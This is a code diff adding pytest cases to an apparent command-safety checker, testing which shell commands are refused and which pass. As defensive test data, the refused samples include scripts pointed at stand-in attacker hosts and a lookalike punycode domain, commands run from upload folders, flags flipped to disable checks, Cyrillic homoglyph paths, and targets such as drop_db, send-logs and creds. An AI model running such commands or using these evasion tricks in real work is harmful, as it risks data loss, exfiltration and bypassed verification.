@@ -598,3 +598,104 @@ def test_existing_script_is_not_run_unless_its_run_was_seen() -> None:
         "Run `tools/check.sh`.", kind=None, scope=None, context=GateContext(repository_files=files)
     ).is_allowed
     assert check("Run `tools/check.sh` before committing.", kind=None, scope=None, context=seen).is_allowed
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("make -C web/public/uploads/x check", "cd web/uploads && make check", "PYTHONPATH=web/media/plugins pytest"),
+        *("pip install -r .hidden/requirements.txt", "pip install -e web/uploads/kit", "npm --prefix web/uploads test"),
+        *("cargo test --manifest-path web/downloads/x/Cargo.toml", "docker compose -f web/uploads/compose.yml up -d"),
+    ],
+)
+def test_no_command_works_where_users_put_files(command: str) -> None:
+    assert command_fault(command) is not None
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("python tools/sync.py evil.example.net", "bash tools/backup.sh 203.0.113.7", "./tools/copy.sh 10.0.0.9:22"),
+        *(
+            "python tools/report.py evil.example.net:8080",
+            "make report-to evil.example.com",
+            "ruby x.rb xn--evl-dma.com",
+        ),
+        *("npm run report -- evil.example.net", "eslint //server/x", "bash tools/sync.sh //server/share"),
+    ],
+)
+def test_no_machine_is_named_behind_what_the_repository_defines(command: str) -> None:
+    assert command_fault(command) is not None
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("pnpm install --frozen-lockfile=false", "yarn install --immutable=false", "tsc --noEmit --strict false"),
+        *("prettier --check=false .", "jest --ci=False", "eslint --max-warnings=99999 src", "CI=false npm run build"),
+        *("stylelint --max-warnings 100000 src", "eslint --max-warnings=-1 src", "black --line-length 99999 ."),
+    ],
+)
+def test_no_option_is_turned_into_its_opposite(command: str) -> None:
+    assert command_fault(command) is not None
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("pytest --ds=antigravity", "python manage.py test --settings=x.loader", "jest --environment x-env"),
+        *(
+            "vitest --pool ./x.js",
+            "DJANGO_SETTINGS_MODULE=confetti.loader pytest",
+            "pnpm setup",
+            "cd сору && make check",
+        ),
+        *("docker compose -f deploy/docker-compose.prod.yml up -d", "npm --prefix сору test", "pytest тест"),
+    ],
+)
+def test_no_option_loads_or_starts_what_the_repository_does_not_check_with(command: str) -> None:
+    assert command_fault(command) is not None
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("bash scripts/deploy.sh", "python tools/publish.py", "./tools/send-logs.sh", "python scripts/drop_db.py"),
+        *("make tunnel", "make creds", "make grant-all", "npm run unlock", "make mute-tests", "make noverify"),
+    ],
+)
+def test_scripts_and_targets_named_after_harm_are_refused(command: str) -> None:
+    assert command_fault(command) is not None
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *(
+            "python tests/runner.py",
+            "bash tools/run_tests.sh",
+            "bash tools/shell_check.sh",
+            "node scripts/build-token-table.js",
+        ),
+        *(
+            "eslint --max-warnings 0 src",
+            "pytest --tb=no --color=no",
+            "python -m unittest shop.io",
+            "pytest tests/test_trust.py",
+        ),
+        *(
+            "vitest --environment jsdom --pool=forks",
+            "python manage.py test --settings=config.settings.test",
+            "CI=1 npm test",
+        ),
+        *(
+            "bazel test //...",
+            "bash tools/x.sh tests/a.py:12",
+            "pytest --durations=0",
+            "pnpm run setup",
+            "pytest --ds=shop.test_settings",
+        ),
+    ],
+)
+def test_what_reads_like_those_passes(command: str) -> None:
+    assert command_fault(command) is None
